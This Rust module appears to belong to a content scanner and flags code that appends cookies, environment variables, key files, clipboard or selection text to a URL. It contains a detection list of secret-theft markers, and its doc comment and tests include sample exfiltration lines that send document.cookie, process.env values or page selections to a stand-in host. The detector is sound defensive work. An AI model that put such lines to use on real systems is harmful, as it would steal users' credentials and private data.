//! Programs that put what the machine or its user has behind an address: `"https://h/?q=" + btoa(document.cookie)`.
//!
//! Most programs put something behind an address; it counts what it is called, or what text it is. *Security*: hostile bytes;
//! reads the rest of one line, for a bounded length.

use memchr::memmem;

use super::carried::encoded_text;
use super::naming::{is_confidential, is_private};
use super::url::Url;
use crate::content::rule::Strength::{self, Addressed, Mentioned};

/// How far the expression behind an address is read, bytes.
const BEHIND_BYTES_MAX: usize = 160;

/// What no honest program puts there.
const TAKEN: [&str; 31] = [
    "document.cookie",
    "document.referrer",
    "document.location",
    "document.title",
    "document.body",
    "$_session",
    "$_cookie",
    "localstorage",
    "sessionstorage",
    "/etc/passwd",
    "id_rsa",
    ".aws/",
    ".ssh/",
    "btoa(",
    "b64encode",
    "dict(os.environ",
    "str(os.environ",
    "clipboard",
    "innerhtml",
    "outerhtml",
    "innertext",
    "getselection",
    "process.env",
    "self.name",
    "window.name",
    "state.token",
    "state.user",
    "activecell",
    ").value",
    "environ(",
    "hostname()",
];

/// How bad what follows the end of an address is, if anything does.
pub(super) fn continued(bytes: &[u8], url: &Url) -> Option<Strength> {
    let rest = bytes.get(url.range.end..)?;
    let line = rest.get(..rest.len().min(BEHIND_BYTES_MAX))?.split(|byte| *byte == b'\n').next()?;
    // The sign that wants a value was taken for the end of a sentence.
    let is_asking = matches!(line.first(), Some(b'?'))
        || url.query.as_deref().is_some_and(|query| query.is_empty() || query.ends_with(b"="));
    let line = line.strip_prefix(b"?").unwrap_or(line);
    let line = line.strip_prefix(b"\\").unwrap_or(line);
    let (b'"' | b'\'' | b'`', behind) = line.split_first().map(|(first, rest)| (*first, rest))? else { return None };
    let joint = behind.trim_ascii_start();
    if !matches!(joint.first(), Some(b'+' | b'.' | b'&' | b'%' | b',')) {
        return None;
    }
    let low = behind.to_ascii_lowercase();
    if TAKEN.iter().any(|word| memmem::find(&low, word.as_bytes()).is_some()) {
        return Some(Addressed);
    }
    let is_joined = matches!(joint.first(), Some(b'+' | b'&')) && is_asking;
    let literals = || behind.split(|byte| matches!(byte, b'\'' | b'"')).skip(1).step_by(2);
    if is_joined && literals().any(|literal| memmem::find(literal, b"%3D").is_some() || encoded_text(literal).is_some())
    {
        return Some(Addressed);
    }
    let low = low.trim_ascii_start().get(1..)?.trim_ascii_start();
    let is_part = |byte: &u8| byte.is_ascii_alphanumeric() || b"_.$([".contains(byte);
    let name = low.get(..low.iter().take_while(|byte| is_part(byte)).count())?;
    (is_joined && (is_private(name) || is_confidential(name))).then_some(Mentioned)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Option<Strength> {
        continued(text.as_bytes(), &Url::at(text.as_bytes(), text.find("//").unwrap()).unwrap())
    }

    #[test]
    fn what_is_taken_from_a_machine_or_its_user_is_addressed() {
        for text in [
            "fetch('https://h.example/?' + getSelection())",
            "x = \"https://h.example/?q=\" & Range(\"B2\").Value",
            "get('https://h.example/'+Buffer.from(process.env.KEY))",
            "i.src = 'https://h.example/?'+encodeURIComponent('dXNlcj1hZGFAZXhhbXBsZS5jb20')",
            r#"\"https://h.example/?a=\" + document.cookie"#,
        ] {
            assert_eq!(of(text), Some(Addressed), "{text}");
        }
        assert_eq!(of("open(\"https://h.example/?\" + sessionToken)"), Some(Mentioned));
    }

    #[test]
    fn ordinary_programs_are_not() {
        for text in [
            "get(\"https://h.example/users/\" + id)",
            "get(\"https://h.example/items?page=\" + page)",
            "get('https://h.example/token', token)",
            "['https://h.example/', 'https://h.example/b']",
            "see https://h.example/ + token",
        ] {
            assert_eq!(of(text), None, "{text}");
        }
    }
}
